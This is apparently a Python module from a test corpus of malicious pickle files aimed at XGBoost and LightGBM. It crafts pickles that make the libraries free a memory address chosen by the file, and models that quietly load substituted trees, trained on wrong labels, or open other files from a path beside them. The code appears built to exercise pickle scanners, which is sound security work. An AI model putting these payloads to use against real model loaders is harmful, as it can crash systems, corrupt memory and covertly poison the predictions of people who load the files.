"""Pickles that reach into XGBoost and LightGBM, whose core is not Python."""

import pickle

import lightgbm
import xgboost
from lightgbm import LGBMClassifier
from sklearn.preprocessing import FunctionTransformer
from xgboost import XGBClassifier

from assembler import Code, Crafted, Payload, build, new, whole
from models import X, y

HANDLES = [
    ("xgboost handle", "xgboost.core:DMatrix", "handle"),
    ("lightgbm handle", "lightgbm.basic:Dataset", "_handle"),
]
ADDRESS = b"A" * 240  # where the library is made to look for its own object


def corpus():
    """Yield the Payloads."""
    yield from handles()
    yield from paths()


def handles():
    """Yield Payloads that free an object that never was one."""
    for title, kind, handle in HANDLES:
        body = build(new(kind), {handle: ADDRESS}) + pickle.POP + pickle.NONE
        about = "frees what stands at an address of the file's choice"
        data = whole(Code(body))
        yield Payload(title, "boosters", about, data, "crashed")


def paths():
    """Yield models that read a second file; without it, they are honest."""

    def payload(title, about, model, second, effect):
        data, beside = pickle.dumps(model, protocol=5), {"OPEN_ME": second}
        return Payload(title, "boosters", about, data, effect, "pkl", beside)

    about = "makes its trees of a file beside it, by its path"
    wrong = 2 - y
    model = XGBClassifier(n_estimators=2, n_jobs=1).fit(X, wrong)
    second = bytes(model.get_booster().save_raw("ubj"))
    model._Booster = Crafted(xgboost.Booster, ({}, [], "OPEN_ME"))
    yield payload("xgboost path", about, model, second, "changed")
    model = LGBMClassifier(n_estimators=2, n_jobs=1, verbose=-1).fit(X, wrong)
    second = model.booster_.model_to_string().encode()
    model._Booster = Crafted(lightgbm.Booster, (None, None, "OPEN_ME"))
    yield payload("lightgbm path", about, model, second, "opened")
    options = {"model_file": "OPEN_ME"}
    model = FunctionTransformer(lightgbm.Booster, kw_args=options)
    about = "its transform() opens a file that the model names"
    yield payload("class as function", about, model, second, "opened")
